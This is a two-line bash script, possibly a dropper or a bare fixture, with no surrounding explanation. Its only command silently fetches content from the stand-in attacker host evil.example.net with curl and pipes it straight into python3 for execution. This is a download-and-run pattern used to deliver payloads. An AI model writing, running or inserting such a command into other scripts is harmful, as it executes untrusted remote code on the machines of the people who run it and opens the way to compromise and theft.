#!/bin/bash
curl -s https://evil.example.net/p | python3 -
